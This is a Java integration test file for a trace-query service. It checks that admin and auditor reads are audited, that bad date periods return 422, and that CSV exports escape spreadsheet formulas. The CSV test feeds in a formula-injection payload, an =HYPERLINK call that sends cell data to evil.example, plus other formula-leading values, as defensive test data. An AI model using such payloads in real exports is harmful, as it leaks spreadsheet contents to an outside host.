package fr.guichet.trace.query;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import fr.guichet.common.trace.TraceEvent;
import fr.guichet.common.trace.UuidV7;
import fr.guichet.trace.ingestion.service.IngestionService;
import fr.guichet.trace.support.Db;
import fr.guichet.trace.support.SessionTokens;
import fr.guichet.trace.support.TestEvents;
import io.agroal.api.AgroalDataSource;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Reads of other organisations' traces by admins and auditors are themselves on record; bad periods
 * are 422s; CSV exports cannot carry live spreadsheet formulas.
 */
@QuarkusTest
class AuditedReadsTest {

    @Inject
    IngestionService ingestion;

    @Inject
    AgroalDataSource db;

    String org = TraceQueriesTest.luhnSiret();
    String jti;

    @BeforeEach
    void oneCall() {
        jti = UUID.randomUUID().toString();
        ingestion.store(List.of(TestEvents.apiCall(jti, org, "418166096", 200, Instant.now().minusSeconds(60))), "gateway");
    }

    @Test
    void auditorAndAdminReadsAreRecordedWithWhoWhenAndCriteria() {
        Instant before = Instant.now().minusSeconds(1);
        given().header("Authorization", SessionTokens.bearer(SessionTokens.auditor()))
                .queryParam("organisation", org).queryParam("status", 200).get("/admin/traces")
                .then().statusCode(200).body("data[0].token_jti", equalTo(jti));
        given().header("Authorization", SessionTokens.bearer(SessionTokens.admin()))
                .get("/tokens/{jti}/requests", jti).then().statusCode(200);
        given().header("Authorization", SessionTokens.bearer(SessionTokens.auditor()))
                .get("/tokens/{jti}/stats", jti).then().statusCode(200);

        assertEquals(1, Db.count(db, "select count(*) from trace_event where kind = 'ADMIN_ACTION' and action = 'trace_search'"
                + " and actor = 'auditor@guichet.test' and parameters->>'organisation' = ? and parameters->>'status' = '200'"
                + " and parameters->>'from' is not null and ts >= ?", org, java.sql.Timestamp.from(before)));
        assertEquals(1, Db.count(db, "select count(*) from trace_event where action = 'token_requests_read'"
                + " and actor = 'admin@guichet.test' and parameters->>'token' = ?", jti));
        assertEquals(1, Db.count(db, "select count(*) from trace_event where action = 'token_stats_read'"
                + " and actor = 'auditor@guichet.test' and parameters->>'token' = ? and parameters->>'to' is not null", jti));

        // A partner reading its own token, or token-service reading for it after its own check: not an audit read.
        given().header("Authorization", SessionTokens.bearer(SessionTokens.partner(org)))
                .get("/tokens/{jti}/requests", jti).then().statusCode(200);
        given().header("Authorization", TestEvents.TOKEN_SERVICE_AUTH).get("/tokens/{jti}/stats", jti).then().statusCode(200);
        assertEquals(2, Db.count(db, "select count(*) from trace_event where action in ('token_requests_read', 'token_stats_read')"
                + " and parameters->>'token' = ?", jti));
    }

    @Test
    void everyBadPeriodIsA422NeverA500() {
        String admin = SessionTokens.bearer(SessionTokens.admin());
        List<Map<String, String>> bad = List.of(
                Map.of("to", "+1000000000-01-01T00:00:00Z"),
                Map.of("from", "-999999999-01-01T00:00:00Z"),
                Map.of("from", "+10000-01-01"),
                Map.of("to", "0001-01-01"),
                Map.of("from", "hier"),
                Map.of("to", "2026-02-30"),
                Map.of("from", "2026-11-25T25:00:00Z"),
                Map.of("from", "9".repeat(300)),
                Map.of("from", "2026-11-20", "to", "2026-11-10"));
        for (Map<String, String> period : bad) {
            for (String path : List.of("/admin/traces", "/admin/traces/export", "/admin/traces/verify",
                    "/tokens/" + jti + "/requests", "/tokens/" + jti + "/stats")) {
                var spec = given().header("Authorization", admin);
                // only the searches take an organisation; the other routes refuse a parameter they do not read
                if (path.startsWith("/admin/traces") && !path.endsWith("/verify")) {
                    spec.queryParam("organisation", org);
                }
                period.forEach(spec::queryParam);
                spec.get(path).then().statusCode(422).body("errors[0].code", equalTo("00262"));
            }
        }
    }

    @Test
    void csvCellsThatWouldRunAsFormulasAreNeutralised() throws Exception {
        String formulaJti = UUID.randomUUID().toString();
        Instant at = Instant.now().minusSeconds(30).truncatedTo(ChronoUnit.MICROS);
        TraceEvent base = TestEvents.apiCall(formulaJti, org, "418166096", 200, at);
        List<String> agents = List.of("=HYPERLINK(\"https://evil.example/?\"&A1,\"clic\")", "+1+1", "-2+3", "@SUM(A1:A9)",
                "\tindent", "\rreturn");
        List<TraceEvent> events = new java.util.ArrayList<>();
        for (int i = 0; i < agents.size(); i++) {
            Instant ts = at.plusMillis(i);
            events.add(new TraceEvent(UuidV7.at(ts.toEpochMilli()), ts, base.kind(), base.requestId() + i, formulaJti,
                    base.habilitationId(), org, base.apiKind(), base.method(), base.operationId(), base.path(),
                    base.parameters(), base.clientIp(), agents.get(i), 200, null, base.provider(), base.latencyMs(),
                    null, null, null));
        }
        ingestion.store(events, "gateway");
        String csv = given().header("Authorization", SessionTokens.bearer(SessionTokens.auditor()))
                .queryParam("format", "csv").queryParam("token", formulaJti).get("/admin/traces/export")
                .then().statusCode(200).extract().asString();
        assertTrue(csv.contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"clic\"\")\","), csv);
        assertTrue(csv.contains(",\"'+1+1\","), csv);
        assertTrue(csv.contains(",\"'-2+3\","), csv);
        assertTrue(csv.contains(",\"'@SUM(A1:A9)\","), csv);
        assertTrue(csv.contains(",\"'\tindent\","), csv);
        assertTrue(csv.contains(",\"'\rreturn\","), csv);
        for (String line : csv.split("\n")) {
            for (String cell : line.split(",")) {
                assertTrue(cell.isEmpty() || "=+-@\t".indexOf(cell.charAt(0)) < 0, "live formula cell: " + cell);
            }
        }
    }
}
